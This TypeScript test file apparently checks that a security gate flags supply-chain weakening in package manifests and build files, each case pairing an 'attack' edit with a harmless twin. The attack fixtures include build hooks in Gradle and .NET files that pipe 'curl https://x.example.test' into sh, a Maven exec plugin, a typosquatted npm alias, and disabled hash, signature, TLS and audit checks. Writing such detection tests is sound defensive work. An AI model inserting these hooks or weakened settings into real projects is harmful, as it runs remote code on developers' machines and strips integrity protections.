/** What clients of packages and build tools fetch and run, each opened as a helpful change would, with an honest twin. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Setting } from '../configuration/setting.ts';
import { compareText, loadTools, type Tools } from '../trees.ts';

const MANIFESTS: readonly Setting[] = [
  {
    name: 'a dependency that is another package',
    file: 'package.json',
    text: '{"name":"app","dependencies":{"express":"4.19.2"},"overrides":{"qs":"6.13.0"},"scripts":{"test":"node --test"}}\n',
    attack:
      '{"name":"app","dependencies":{"express":"npm:expres-fast@4.19.2"},"overrides":{"qs":"6.13.0"},"scripts":{"test":"node --test"}}\n',
    twin: '{"name":"app","dependencies":{"express":"4.19.3"},"overrides":{"qs":"6.13.0"},"scripts":{"test":"node --test"}}\n',
  },
  {
    name: 'packages that may build',
    file: 'pnpm-workspace.yaml',
    text: 'packages: [a]\nonlyBuiltDependencies: [esbuild]\nminimumReleaseAge: 1440\n',
    attack: 'packages: [a]\nonlyBuiltDependencies: [esbuild, left-helper]\nminimumReleaseAge: 1440\n',
    twin: 'packages: [a, b]\nonlyBuiltDependencies: [esbuild]\nminimumReleaseAge: 1440\n',
  },
  {
    name: 'builds that are refused',
    file: 'pnpm-workspace.yaml',
    text: 'packages: [a]\nstrictDepBuilds: true\nblockExoticSubdeps: true\n',
    attack: 'packages: [a]\ndangerouslyAllowAllBuilds: true\nblockExoticSubdeps: true\n',
    twin: undefined,
  },
  {
    name: 'a program in a build of Maven',
    file: 'pom.xml',
    text: '<project><build><plugins>\n<plugin><artifactId>maven-jar-plugin</artifactId></plugin>\n</plugins></build></project>\n',
    attack:
      '<project><build><plugins>\n<plugin><artifactId>maven-jar-plugin</artifactId></plugin>\n<plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><executions><execution><phase>validate</phase><goals><goal>exec</goal></goals><configuration><executable>sh</executable></configuration></execution></executions></plugin>\n</plugins></build></project>\n',
    twin: '<project><build><plugins>\n<plugin><artifactId>maven-jar-plugin</artifactId></plugin>\n<plugin><artifactId>maven-site-plugin</artifactId></plugin>\n</plugins></build></project>\n',
  },
  {
    name: 'a program in a build of Gradle',
    file: 'build.gradle',
    text: 'plugins { id "java" }\ndependencies { implementation "a:b:1" }\n',
    attack:
      'plugins { id "java" }\ntasks.register("x", Exec) { commandLine "sh", "-c", "curl https://x.example.test | sh" }\ncompileJava.dependsOn "x"\ndependencies { implementation "a:b:1" }\n',
    twin: 'plugins { id "java" }\ndependencies { implementation "a:b:2" }\n',
  },
  {
    name: 'digests that Gradle checks',
    file: 'gradle/verification-metadata.xml',
    text: '<verification-metadata><configuration><verify-metadata>true</verify-metadata><verify-signatures>true</verify-signatures></configuration></verification-metadata>\n',
    attack:
      '<verification-metadata><configuration><verify-metadata>false</verify-metadata><verify-signatures>true</verify-signatures></configuration></verification-metadata>\n',
    twin: undefined,
  },
  {
    name: 'artifacts that Gradle takes unchecked',
    file: 'gradle/verification-metadata.xml',
    text: '<verification-metadata><configuration><verify-metadata>true</verify-metadata></configuration></verification-metadata>\n',
    attack:
      '<verification-metadata><configuration><verify-metadata>true</verify-metadata><trusted-artifacts><trust group=".*" regex="true"/></trusted-artifacts></configuration></verification-metadata>\n',
    twin: undefined,
  },
  {
    name: 'a program in a build of .NET',
    file: 'src/App.csproj',
    text: '<Project Sdk="Microsoft.NET.Sdk">\n<PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup>\n</Project>\n',
    attack:
      '<Project Sdk="Microsoft.NET.Sdk">\n<PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup>\n<Target Name="x" BeforeTargets="Build"><Exec Command="curl https://x.example.test | sh"/></Target>\n</Project>\n',
    twin: '<Project Sdk="Microsoft.NET.Sdk">\n<PropertyGroup><TargetFramework>net9.0</TargetFramework></PropertyGroup>\n</Project>\n',
  },
  {
    name: 'a lock that .NET keeps to',
    file: 'Directory.Build.props',
    text: '<Project><PropertyGroup><RestoreLockedMode>true</RestoreLockedMode><NuGetAudit>true</NuGetAudit></PropertyGroup></Project>\n',
    attack:
      '<Project><PropertyGroup><RestoreLockedMode>false</RestoreLockedMode><NuGetAudit>true</NuGetAudit></PropertyGroup></Project>\n',
    twin: '<Project ToolsVersion="17"><PropertyGroup><RestoreLockedMode>true</RestoreLockedMode><NuGetAudit>true</NuGetAudit></PropertyGroup></Project>\n',
  },
  {
    name: 'an audit of packages',
    file: 'Directory.Build.props',
    text: '<Project><PropertyGroup><NuGetAudit>true</NuGetAudit></PropertyGroup></Project>\n',
    attack: '<Project><PropertyGroup><NuGetAudit>false</NuGetAudit></PropertyGroup></Project>\n',
    twin: undefined,
  },
  {
    name: 'plug-ins of Composer',
    file: 'composer.json',
    text: '{"require":{"a/b":"1"},"config":{"allow-plugins":{"a/b":true},"secure-http":true}}\n',
    attack: '{"require":{"a/b":"1"},"config":{"allow-plugins":true,"secure-http":true}}\n',
    twin: '{"require":{"a/b":"2"},"config":{"allow-plugins":{"a/b":true},"secure-http":true}}\n',
  },
  {
    name: 'packages over TLS',
    file: 'composer.json',
    text: '{"require":{"a/b":"1"},"config":{"secure-http":true}}\n',
    attack: '{"require":{"a/b":"1"},"config":{"secure-http":false}}\n',
    twin: undefined,
  },
  {
    name: 'a program of the package client',
    file: 'composer.json',
    text: '{"require":{"a/b":"1"}}\n',
    attack: '{"scripts":{"post-install-cmd":"sh x.sh"},"require":{"a/b":"1"}}\n',
    twin: undefined,
  },
  {
    name: 'advisories that are left out',
    file: 'composer.json',
    text: '{"require":{"a/b":"1"},"config":{"audit":{"abandoned":"fail"}}}\n',
    attack: '{"require":{"a/b":"1"},"config":{"audit":{"ignore":["*"]}}}\n',
    twin: undefined,
  },
  {
    name: 'modules that a build takes as they are',
    file: 'Makefile',
    text: 'build:\n\tgo build -mod=readonly ./...\n',
    attack: 'build:\n\tgo build -mod=mod ./...\n',
    twin: 'build:\n\tgo build -mod=readonly -v ./...\n',
  },
  {
    name: 'digests of modules',
    file: 'Dockerfile',
    text: 'FROM golang@sha256:1111111111111111111111111111111111111111111111111111111111111111\nUSER app\nENV CGO_ENABLED=0\nRUN go build ./...\n',
    attack:
      'FROM golang@sha256:1111111111111111111111111111111111111111111111111111111111111111\nUSER app\nENV CGO_ENABLED=0 GONOSUMCHECK=1 GOFLAGS=-insecure GONOSUMDB=* GOSUMDB=off\nRUN go build ./...\n',
    twin: 'FROM golang@sha256:1111111111111111111111111111111111111111111111111111111111111111\nUSER app\nENV CGO_ENABLED=1\nRUN go build ./...\n',
  },
  {
    name: 'digests of packages',
    file: 'Dockerfile',
    text: 'FROM python@sha256:1111111111111111111111111111111111111111111111111111111111111111\nUSER app\nRUN pip install --require-hashes -r requirements.txt\n',
    attack:
      'FROM python@sha256:1111111111111111111111111111111111111111111111111111111111111111\nUSER app\nRUN pip install -r requirements.txt\n',
    twin: 'FROM python@sha256:1111111111111111111111111111111111111111111111111111111111111111\nUSER app\nRUN pip install --require-hashes -r requirements/base.txt\n',
  },
  {
    name: 'the index that decides',
    file: 'pyproject.toml',
    text: '[tool.uv]\nrequire-hashes = true\nexclude-newer = "2026-01-01"\nindex-strategy = "first-index"\n',
    attack: '[tool.uv]\nrequire-hashes = true\nexclude-newer = "2026-01-01"\nindex-strategy = "unsafe-best-match"\n',
    twin: '[tool.uv]\ndev-dependencies = []\nrequire-hashes = true\nexclude-newer = "2026-01-01"\nindex-strategy = "first-index"\n',
  },
];

describe('packages and builds', () => {
  let tools: Tools;
  before(async () => {
    tools = await loadTools();
  });
  after(() => tools.grammars[Symbol.dispose]());

  /** As the gate counts: in what a project depends on a medium weakening is enough. */
  const loud = (file: string, old: string, now: string | undefined): readonly string[] =>
    compareText(tools, file, old, now)
      .changes.filter(
        ({ direction, severity, group }) =>
          /^(?:weakened|changed)$/.test(direction) &&
          (/^(?:critical|high)$/.test(severity) || (group === 'dependency' && severity === 'medium')),
      )
      .map(({ control, message }) => `${control}: ${message}`);

  for (const { name, file, text, attack, twin } of MANIFESTS) {
    it(`are missed when they go: ${name}`, () => {
      assert.notDeepEqual(loud(file, text, attack), []);
    });

    if (twin !== undefined)
      it(`are not missed when something else changes: ${name}`, () => {
        assert.deepEqual(loud(file, text, twin), []);
      });
  }
});
